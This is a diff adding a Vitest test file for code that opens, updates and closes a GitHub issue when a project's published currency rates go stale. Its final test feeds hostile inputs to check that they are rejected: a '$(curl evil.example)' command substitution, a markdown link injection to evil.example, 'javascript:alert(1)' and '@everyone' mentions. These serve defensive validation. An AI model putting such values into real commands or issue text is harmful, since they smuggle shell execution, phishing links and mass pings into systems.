@@ -1,0 +1,118 @@
+import { afterEach, beforeEach, describe, expect, it, vi } from 'vitest';
+import { type LongStaleness, longStaleness } from '../../rates/quality/long-staleness.ts';
+import { startGitHubApi } from '../../testing/servers/github-api.ts';
+import { CommandError } from '../terminal/command.ts';
+import { keepStaleIssue } from './stale-issue.ts';
+
+const [first, second] = ['https://one.example/usd.json', 'https://two.example/usd.json'];
+const stale: LongStaleness = {
+  since: '2026-09-30T00:23:00.000Z',
+  asOf: '2026-09-27',
+  mirrors: [
+    { mirror: first, outcome: 'current', date: '2026-09-27' },
+    { mirror: second, outcome: 'failed', date: null },
+  ],
+};
+
+let api: Awaited<ReturnType<typeof startGitHubApi>>;
+let runs: number;
+beforeEach(async () => {
+  api = await startGitHubApi([]);
+  runs = 0;
+  vi.stubEnv('GITHUB_API_URL', api.url);
+  vi.stubEnv('GITHUB_REPOSITORY', 'me/fork');
+  vi.stubEnv('GITHUB_TOKEN', 'a-token');
+  vi.stubEnv('GITHUB_STEP_SUMMARY', '');
+});
+afterEach(async () => {
+  vi.unstubAllEnvs();
+  await api[Symbol.asyncDispose]();
+});
+
+const { signal } = new AbortController();
+const keep = (output: string, outcome = 'success') =>
+  keepStaleIssue(
+    { signal, outcome, run: `https://github.com/me/fork/actions/runs/${++runs}`, hasIssues: true },
+    output,
+  );
+const keepStale = (staleness: LongStaleness | null, outcome?: string) => keep(JSON.stringify(staleness), outcome);
+
+describe('longStaleness', () => {
+  const { since, ...rest } = stale;
+  const snapshot = { ...rest, staleSince: since };
+
+  it.each([
+    ['null before a day', '2026-10-01T00:22:59.999Z', null],
+    ['since when, and what the mirrors had, from a day on', '2026-10-01T00:23:00.000Z', stale],
+  ])('returns %s', (_, checkedAt, expected) => {
+    expect(longStaleness({ ...snapshot, checkedAt })).toEqual(expected);
+    expect(longStaleness({ ...snapshot, checkedAt, staleSince: null })).toBeNull();
+  });
+});
+
+describe('keepStaleIssue', () => {
+  it('opens one issue that says since when, and what each mirror returned', async () => {
+    for (let times = 0; times < 2; times++) await keepStale(stale);
+    expect(api.issues).toMatchObject([{ state: 'open', title: 'The rates have been stale for a day' }]);
+    const { body = '' } = api.issues[0] ?? {};
+    expect(body).toContain(
+      'The published rates are of 2026-09-27. They have been stale since 2026-09-30T00:23:00.000Z',
+    );
+    expect(body.match(/^- `http.*$/gm)).toEqual([
+      `- \`${first}\`: 2026-09-27: its dataset has the date of the published one.`,
+      `- \`${second}\`: it returned no usable dataset.`,
+    ]);
+    expect(api.edits).toEqual([]);
+  });
+
+  it('edits the text when a mirror returns something else, without a comment', async () => {
+    await keepStale(stale);
+    await keepStale({ ...stale, mirrors: [{ mirror: first, outcome: 'failed', date: null }] });
+    expect(api.edits).toEqual(['body']);
+    expect(api.issues).toMatchObject([{ state: 'open', comments: [] }]);
+  });
+
+  it('closes the issue when a publish succeeds with fresh rates, and opens another one the next time', async () => {
+    await keepStale(stale);
+    await keepStale(null, 'failure');
+    expect(api.issues).toMatchObject([{ state: 'open' }]);
+    await keepStale(null);
+    expect(api.issues).toMatchObject([
+      { state: 'closed', comments: ['The rates are fresh again: https://github.com/me/fork/actions/runs/3'] },
+    ]);
+    await keepStale(stale);
+    expect(api.issues.map(({ state }) => state)).toEqual(['closed', 'open']);
+  });
+
+  it('opens no issue again that a person has closed, until the rates become stale another time', async () => {
+    await keepStale(stale);
+    Object.assign(api.issues[0] ?? {}, { state: 'closed' });
+    await keepStale({ ...stale, mirrors: [] });
+    expect(api.issues).toHaveLength(1);
+    await keepStale({ ...stale, since: '2026-10-20T00:23:00.000Z' });
+    expect(api.issues.map(({ state }) => state)).toEqual(['closed', 'open']);
+  });
+
+  it('changes nothing without the output of a publish', async () => {
+    await keepStale(stale);
+    await keep('');
+    await keep('', 'failure');
+    expect([api.issues.map(({ state }) => state), api.edits]).toEqual([['open'], []]);
+  });
+
+  const withMirror = (mirror: object) => JSON.stringify({ ...stale, mirrors: [{ ...stale.mirrors[0], ...mirror }] });
+  it.each([
+    'nonsense',
+    '[]',
+    '{}',
+    JSON.stringify({ ...stale, since: '@everyone' }),
+    JSON.stringify({ ...stale, asOf: '2026-09-31' }),
+    withMirror({ mirror: 'https://x.example/`\n# [look](https://evil.example)' }),
+    withMirror({ mirror: 'javascript:alert(1)' }),
+    withMirror({ outcome: '$(curl evil.example)' }),
+    withMirror({ date: '@me' }),
+  ])('throws and changes nothing when the output is %s', async (output) => {
+    await expect(keep(output)).rejects.toThrow(CommandError);
+    expect(api.issues).toEqual([]);
+  });
+});
